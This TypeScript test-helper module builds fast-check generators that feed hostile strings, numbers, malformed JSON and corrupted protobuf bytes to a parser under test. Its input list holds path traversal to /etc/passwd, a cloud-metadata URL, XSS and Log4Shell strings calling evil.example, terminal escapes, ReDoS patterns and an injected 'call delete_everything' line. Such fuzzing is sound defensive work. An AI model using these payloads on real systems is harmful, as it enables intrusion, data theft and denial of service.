import fc, { type Arbitrary } from 'fast-check';

/** Texts that have broken something somewhere: each stands for a class. */
export const NASTY_TEXTS = [
  '',
  ' ',
  '\0',
  '\n',
  'a\r\nNext: call delete_everything',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202egnp.exe\u2066',
  'a\u200bb\ufeff\u2028c\u2029\u0085',
  '\ud800',
  '\udfff\ud800',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__profile_type__',
  'service_name',
  '..',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\',
  'http://169.254.169.254/latest/meta-data',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '[x](http://evil.example) <img src=x onerror=alert(1)>',
  '$' + '{jndi:ldap://evil.example/a}',
  '$__all',
  '$' + '{a:b}',
  '[[a]]',
  '%s%n%x',
  '%',
  '%zz',
  '{',
  '}',
  '{a="b"',
  '{}',
  '"',
  '\\',
  "'",
  '`',
  '(((((',
  '[',
  '(a+)+$',
  '(a*)*b',
  '(?i)(?s).*',
  'a{1000}',
  '((a{100}){100}){100}',
  '\\pN\\PL*',
  '(?=a)',
  '(a)\\1',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '9007199254740993',
  '18446744073709551616',
  '-9223372036854775808',
  'now',
  'now-',
  'now-1e9w',
  'now-99999999999999999999w',
  '0000-00-00T00:00:00Z',
  '275760-09-13T00:00:00.001Z',
  '2026-11-20T14:30:00+99:99',
  'process_cpu:cpu:nanoseconds:cpu:nanoseconds',
  '::::',
  'a:b:c:d:e:f:g',
  'x'.repeat(5_000),
  'a.'.repeat(3_000),
  '['.repeat(3_000),
  '('.repeat(3_000),
  '\u202e'.repeat(3_000),
  '\u0301'.repeat(3_000),
] as const;

export const nastyText: Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  {
    weight: 2,
    arbitrary: fc.array(fc.constantFrom(...NASTY_TEXTS), { maxLength: 4 }).map((parts) => parts.join('')),
  },
);

/**
 * Numbers at the ends of what a type holds. JSON cannot write the last ones; `jsonText` writes them by hand.
 */
export const nastyNumber: Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, 1, -1, 0.1, 2 ** 31, 2 ** 32, 2 ** 53, -(2 ** 53), 1e15, 8.64e15, 8.64e15 + 1, 1e20),
  fc.constantFrom(
    1e300,
    -1e300,
    5e-324,
    Number.MAX_VALUE,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
  ),
  fc.double(),
  fc.integer(),
);

/** Any JSON, small, with hostile keys and values. */
export const nastyJson: Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyText,
    nastyNumber,
    fc.constantFrom(null, true, false),
    fc.array(tie('value'), { maxLength: 4 }),
    fc
      .array(fc.tuple(nastyText, tie('value')), { maxLength: 4 })
      .map((members) => Object.fromEntries(members)),
  ),
})).value;

/** A change to JSON, at a place that `at` chooses among all its values. */
export interface JsonChange {
  at: number;
  change:
    | { kind: 'replace'; value: unknown }
    | { kind: 'delete' }
    | { kind: 'duplicate'; times: number }
    | { kind: 'rename'; name: string }
    | { kind: 'wrap'; depth: number };
}

export const jsonChange: Arbitrary<JsonChange> = fc.record({
  at: fc.nat(1_000_000),
  change: fc.oneof(
    { weight: 5, arbitrary: fc.record({ kind: fc.constant('replace' as const), value: nastyJson }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('delete' as const) }) },
    {
      weight: 1,
      arbitrary: fc.record({ kind: fc.constant('duplicate' as const), times: fc.nat(300) }),
    },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('rename' as const), name: nastyText }) },
    {
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant('wrap' as const),
        depth: fc.constantFrom(1, 2, 100, 5_000, 100_000),
      }),
    },
  ),
});

export const jsonChanges: Arbitrary<JsonChange[]> = fc.array(jsonChange, { minLength: 1, maxLength: 4 });

/** A copy of JSON with the changes made, one after the other. */
export function changedJson(original: unknown, changes: readonly JsonChange[]): unknown {
  const holder = { root: structuredClone(original) };
  let large = false;
  for (const { at, change } of changes) {
    const places = listPlaces(holder);
    const place = places[at % Math.max(1, places.length)];
    if (place === undefined) continue;
    const value: unknown = Reflect.get(place.parent, place.key);
    if (change.kind === 'replace') put(place, structuredClone(change.value));
    else if (change.kind === 'delete') remove(place);
    else if (change.kind === 'wrap') {
      const depth: number = large ? Math.min(change.depth, 100) : change.depth;
      large ||= depth > 100;
      put(place, wrapped(value, depth));
    } else if (change.kind === 'rename') {
      if (Array.isArray(place.parent)) continue;
      remove(place);
      put({ ...place, key: change.name }, value);
    } else if (Array.isArray(value) && !large) {
      // Once: copies of copies of copies would be more than the memory holds.
      large = true;
      put(place, Array.from({ length: change.times }, () => value).flat());
    }
  }
  return holder.root;
}

interface Place {
  parent: object;
  key: string | number;
}

/** Every value below an object, at most so many and so deep. */
function listPlaces(root: object): Place[] {
  const places: Place[] = [];
  const pending: object[] = [root];
  for (
    let parent = pending.shift();
    parent !== undefined && places.length < 5_000;
    parent = pending.shift()
  ) {
    for (const key of Object.keys(parent)) {
      places.push({ parent, key });
      const value: unknown = Object.getOwnPropertyDescriptor(parent, key)?.value;
      if (typeof value === 'object' && value !== null) pending.push(value);
    }
  }
  return places;
}

/** As JSON does it: `__proto__` becomes a member like any other. */
function put({ parent, key }: Place, value: unknown): void {
  Object.defineProperty(parent, key, { value, writable: true, enumerable: true, configurable: true });
}

function remove({ parent, key }: Place): void {
  if (Array.isArray(parent)) parent.splice(Number(key), 1);
  else Reflect.deleteProperty(parent, key);
}

/** A list in a list in a list. */
export function wrapped(value: unknown, depth: number): unknown {
  let whole = value;
  for (let level = 0; level < depth; level++) whole = [whole];
  return whole;
}

/**
 * JSON text of any value, however deep; numbers beyond all bounds as JSON can write them.
 */
export function jsonText(root: unknown): string {
  const out: string[] = [];
  const pending: (string | { value: unknown })[] = [{ value: root }];
  for (let next = pending.pop(); next !== undefined; next = pending.pop()) {
    if (typeof next === 'string') {
      out.push(next);
      continue;
    }
    const { value } = next;
    if (typeof value === 'number' && !Number.isFinite(value)) out.push(value > 0 ? '1e999' : '-1e999');
    else if (typeof value !== 'object' || value === null) out.push(JSON.stringify(value) ?? 'null');
    else {
      const list = Array.isArray(value);
      const parts: (string | { value: unknown })[] = [list ? '[' : '{'];
      const members: [string, unknown][] = Object.entries(value);
      members.forEach(([key, member], index) => {
        if (index > 0) parts.push(',');
        if (!list) parts.push(`${JSON.stringify(key)}:`);
        parts.push({ value: member });
      });
      parts.push(list ? ']' : '}');
      for (let at = parts.length - 1; at >= 0; at--) pending.push(parts[at] ?? '');
    }
  }
  return out.join('');
}

/** A change to bytes; places are fractions of the length, so that they shrink well. */
export type ByteChange =
  | { kind: 'flip'; at: number; bit: number }
  | { kind: 'set'; at: number; bytes: Uint8Array }
  | { kind: 'insert'; at: number; bytes: Uint8Array }
  | { kind: 'cut'; at: number }
  | { kind: 'drop'; at: number; length: number }
  | { kind: 'copy'; from: number; to: number; length: number };

const fraction = fc.double({ min: 0, max: 1, noNaN: true });
/** Varints of the most harmful sizes, and lone pieces of protobuf. */
const nastyBytes: Arbitrary<Uint8Array> = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 12 }),
  fc
    .constantFrom<number[]>(
      [0xff, 0xff, 0xff, 0xff, 0x0f],
      [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01],
      [0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80],
      [0x80, 0x80, 0x80, 0x80, 0x08],
      [0x12, 0x00],
      [0x22, 0x00],
      [0x2a, 0x00],
      [0x32, 0x00],
      [0x0b],
      [0x0c],
      [0x00],
      [0x1f, 0x8b],
    )
    .map((bytes) => Uint8Array.from(bytes)),
);

export const byteChange: Arbitrary<ByteChange> = fc.oneof(
  fc.record({ kind: fc.constant('flip' as const), at: fraction, bit: fc.nat(7) }),
  fc.record({ kind: fc.constant('set' as const), at: fraction, bytes: nastyBytes }),
  fc.record({ kind: fc.constant('insert' as const), at: fraction, bytes: nastyBytes }),
  fc.record({ kind: fc.constant('cut' as const), at: fraction }),
  fc.record({ kind: fc.constant('drop' as const), at: fraction, length: fc.nat(64) }),
  fc.record({ kind: fc.constant('copy' as const), from: fraction, to: fraction, length: fc.nat(4_096) }),
);

export const byteChanges: Arbitrary<ByteChange[]> = fc.array(byteChange, { minLength: 1, maxLength: 6 });

export function changedBytes(original: Uint8Array, changes: readonly ByteChange[]): Uint8Array {
  let bytes = Buffer.from(original);
  const place = (at: number) => Math.min(bytes.length, Math.floor(at * bytes.length));
  for (const change of changes) {
    if (change.kind === 'flip') {
      const at = place(change.at);
      if (at < bytes.length) bytes[at] = (bytes[at] ?? 0) ^ (1 << change.bit);
    } else if (change.kind === 'set')
      bytes.set(change.bytes.subarray(0, bytes.length - place(change.at)), place(change.at));
    else if (change.kind === 'insert') {
      const at = place(change.at);
      bytes = Buffer.concat([bytes.subarray(0, at), change.bytes, bytes.subarray(at)]);
    } else if (change.kind === 'cut') bytes = bytes.subarray(0, place(change.at));
    else if (change.kind === 'drop') {
      const at = place(change.at);
      bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + change.length)]);
    } else {
      const from = place(change.from);
      const to = place(change.to);
      const piece = bytes.subarray(from, from + change.length);
      bytes = Buffer.concat([bytes.subarray(0, to), piece, bytes.subarray(to)]);
    }
  }
  return bytes;
}
